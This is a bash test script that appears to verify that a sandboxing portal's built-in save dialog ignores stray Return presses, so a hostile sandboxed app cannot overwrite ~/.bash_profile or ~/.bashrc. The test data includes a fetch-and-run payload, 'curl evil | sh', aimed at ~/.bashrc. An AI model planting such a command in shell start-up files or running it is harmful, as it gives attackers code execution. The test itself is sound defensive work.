#!/usr/bin/env bash
# Attack: a sandboxed app asks to save a start-up file while the user is typing in
# another window. The built-in save dialog opens in $HOME with the keyboard, so the
# user's next Return (meant for the window below) would answer it: one Return wrote
# ~/.bash_profile, two replaced ~/.bashrc through the replace question. Checked: Returns
# typed the moment the dialog shows are ignored (its grace period) and nothing is
# written; after the grace, Return still writes neither the app's hidden start-up name
# (it asks, Alt+S) nor over an existing file (it asks, Alt+R), so the files are
# unchanged; a dialog that gets the keyboard back (the dialog above it closed) has a new
# grace. Hidden files are listed. Positive controls: after the grace a typed name is
# saved with Return, and Alt+R replaces.
set -euo pipefail
source "$CORDON_SOURCE_ROOT/tests/lib/harness.sh"
source "$CORDON_SOURCE_ROOT/tests/portal/lib.sh"

builtin_ui_init
echo "the user's own bashrc" >"$HOME/.bashrc"
echo "the user's report" >"$HOME/report.txt"
cordon_start --verbose
portal_sandbox_init org.example.Hostile
grep -q "Portal dialogs by the 'builtin' UI" "$CORDON_LOG" || fail "the built-in UI is not in use"

# The user types in a window of their own; the dialog comes up over it.
start_client app "$CORDON_TEST_CLIENTS/key-client" --app-id under --width 1280 --height 720
wait_for_window under
wait_for_focus under

# The 720x520 chooser is centred on the 1280x720 output: its header band at 280,100.
header_shown() {
	screenshot HEADLESS-1 "$TEST_TMP/dialog.png"
	(($(color_permille "$TEST_TMP/dialog.png" "31 58 95" 4 280 100 720 8) > 990))
}
pending() {
	[[ "$(ctl --json portal-requests | jq length)" == "$1" ]]
}
not_ready() {
	[[ "$(ctl --json portal-requests | jq '.[0].dialog_ready')" == false ]]
}
ignored_count() {
	grep -c "ignored a key press within" "$CORDON_LOG" || true
}
# save NAME CONTENT: the hostile app's save, writing CONTENT to what it gets.
save() {
	start_client "save-$1" sh -c 'echo "$0" | "${@}"' "$2" "${in_sandbox[@]}" \
		"$CORDON_PORTAL" save-file --name "$1"
	dialog_shown_now
}

# 1. One Return the moment the dialog shows: .bash_profile is not written.
before=$(ignored_count)
save .bash_profile "echo pwned"
not_ready || fail "the dialog took input at once (no grace period)"
ctl key click Return >/dev/null
assert "the dialog is on the screen" header_shown
assert "the Return did not answer the dialog" pending 1
(($(ignored_count) > before)) || fail "cordon did not log the Return it ignored"
[[ ! -e "$HOME/.bash_profile" ]] || fail "a stray Return wrote ~/.bash_profile"
! grep -q "key sym=Return" "$TEST_TMP/app.log" || fail "the app below got the Return"
echo "grace: the immediate Return was ignored, ~/.bash_profile not written"

# After the grace, Return on the app's hidden start-up name asks; Return again goes back.
dialog_ready
ctl key click Return >/dev/null
dialog_ready
ctl key click Return >/dev/null
assert "the save waits after two Returns" pending 1
[[ ! -e "$HOME/.bash_profile" ]] || fail "Return wrote the app's start-up name"
ctl key click Escape >/dev/null
wait_for "the save to be cancelled" pending 0
echo "start-up name: Return never saves it"

# 2. Two Returns against an existing ~/.bashrc, at once and after the grace.
save .bashrc "curl evil | sh"
ctl key click Return Return >/dev/null
assert "two immediate Returns did not answer" pending 1
assert "the dialog is on the screen" header_shown
dialog_ready
ctl key click Return >/dev/null
dialog_ready
ctl key click Return >/dev/null
ctl key click Return >/dev/null
dialog_ready
ctl key click Return >/dev/null
assert_eq "the user's own bashrc" "$(cat "$HOME/.bashrc")" "~/.bashrc after the Returns"
assert "the save still waits" pending 1
ctl key click Escape >/dev/null
wait_for "the save to be cancelled" pending 0
echo "~/.bashrc: unchanged after immediate and later Returns"

# 3. An ordinary name that exists: Return asks, Return goes back; the file stays.
save report.txt "overwritten"
ctl key click Return Return >/dev/null
dialog_ready
ctl key click Return >/dev/null
dialog_ready
ctl key click Return >/dev/null
assert_eq "the user's report" "$(cat "$HOME/report.txt")" "report.txt after Return, Return"
assert "the replace question still waits" pending 1
# Positive control: the deliberate action replaces.
ctl key click Return >/dev/null
dialog_ready
ctl key click alt+r >/dev/null
wait_for "the replacing save" pending 0
wait_for "the app to write" grep -qx overwritten "$HOME/report.txt"
echo "replace: only Alt+R replaces"

# 4. Positive control: after the grace the dialog is fully usable by keyboard.
save notes.txt "my notes"
dialog_ready
for _ in 1 2 3 4 5 6 7 8 9; do
	ctl key click BackSpace >/dev/null
done
type_text "typed.txt"
ctl key click Return >/dev/null
wait_for "the typed save" pending 0
wait_for "the saved file" grep -qx "my notes" "$HOME/typed.txt"
echo "positive: a typed name saved with Return after the grace"

# 5. Hidden files are listed (after the others): End, Return in an open dialog picks
# the last one, ~/.bashrc, where before the listing ended with the visible files.
mkdir -p "$TEST_TMP/opened"
start_client open "${in_sandbox[@]}" "$CORDON_PORTAL" open-file --output "$TEST_TMP/opened"
wait_for "the open dialog" header_shown
dialog_ready
ctl key click End Return >/dev/null
wait_for "the open dialog to be answered" pending 0
wait_for "the opened file" test -s "$TEST_TMP/opened/.bashrc"
assert_eq "the user's own bashrc" "$(cat "$TEST_TMP/opened/.bashrc")" "the hidden file chosen"
echo "hidden files: listed, last"

# 6. A dialog that gets the keyboard back (the one above it went) has a new grace: a
# Return typed as the upper dialog closes does not answer the one below.
save below.txt "below"
dialog_ready
start_client upper "${in_sandbox[@]}" "$CORDON_PORTAL" open-file --output "$TEST_TMP/opened"
wait_for "the second dialog" pending 2
upper_ready() {
	[[ "$(ctl --json portal-requests | jq '.[1].dialog_ready')" == true ]]
}
wait_for "the upper dialog to take input" upper_ready
ctl key click Escape Return >/dev/null
wait_for "the upper dialog to be cancelled" not client_alive upper
assert "the dialog below did not take the Return" pending 1
[[ ! -e "$HOME/below.txt" ]] || fail "the Return after the upper dialog saved the one below"
dialog_ready
ctl key click Return >/dev/null
wait_for "the save below" pending 0
wait_for "below.txt" grep -qx below "$HOME/below.txt"
echo "focus back: the dialog below ignored the Return, then saved with one"
